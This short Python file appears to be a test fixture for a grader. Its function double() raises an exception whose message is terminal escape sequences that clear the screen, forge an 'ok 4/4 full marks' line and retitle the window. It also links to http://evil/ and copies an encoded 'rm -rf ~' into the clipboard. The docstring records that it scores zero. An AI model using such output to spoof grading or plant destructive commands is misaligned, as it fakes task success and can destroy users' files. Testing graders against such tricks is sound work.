"""It raises exceptions whose text clears the screen, moves the cursor, renames the window and fills the clipboard.

earns: 0 exactly
stopped by: text
"""

CLEAR, UP, TITLE, CLIPBOARD = "\x1b[2J\x1b[H", "\x1b[20A", "\x1b]0;4/4\x07", "\x1b]52;c;cm0gLXJmIH4=\x07"
LINK, C1, BELL, BACK = "\x1b]8;;http://evil/\x1b\\4/4\x1b]8;;\x1b\\", "\x9b2J\x90q\x9c", "\a", "\b" * 80


def double(x):
    raise ValueError(CLEAR + UP + TITLE + CLIPBOARD + LINK + C1 + BELL + BACK + "\rok 4/4 full marks")
